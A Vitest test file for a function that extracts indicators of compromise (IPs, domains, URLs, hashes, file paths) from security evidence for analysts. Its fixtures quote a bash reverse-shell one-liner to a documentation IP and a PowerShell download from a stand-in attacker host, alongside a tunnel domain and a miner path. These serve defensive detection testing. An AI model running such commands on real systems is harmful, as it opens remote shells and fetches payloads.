/** Indicators read from the evidence an analyst would block or hunt for. */
import { describe, expect, it } from 'vitest'
import { iocsFromEvidence } from './iocs.js'

describe('iocsFromEvidence', () => {
  it('finds addresses, domains, URLs, hashes and file paths in command lines, paths and queries', () => {
    const found = iocsFromEvidence({
      'rev-shell': { CommandLine: ['bash -i >& /dev/tcp/198.51.100.200/4444 0>&1'] },
      download: { CommandLine: ['powershell -c "iwr http://evil.example.com/a.ps1 -OutFile C:\\Users\\Public\\a.ps1"'], Hashes: ['SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08'] },
      dns: { 'dns.question.name': ['x7f3k2.tunnel.badcorp.example'], Image: ['/tmp/.x/miner'] },
    })
    expect(found.ips).toContain('198.51.100.200')
    expect(found.urls).toEqual(['http://evil.example.com/a.ps1'])
    expect(found.domains).toEqual(expect.arrayContaining(['evil.example.com', 'x7f3k2.tunnel.badcorp.example']))
    expect(found.hashes).toEqual(['9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'])
    expect(found.files).toEqual(expect.arrayContaining(['C:\\Users\\Public\\a.ps1', '/tmp/.x/miner']))
  })

  it('finds nothing in nothing, and caps what it keeps', () => {
    expect(iocsFromEvidence(undefined)).toEqual({ ips: [], domains: [], urls: [], hashes: [], files: [] })
    const many = iocsFromEvidence({ r: { DestinationIp: Array.from({ length: 80 }, (_, i) => `192.0.2.${i}`) } })
    expect(many.ips).toHaveLength(50)
  })
})
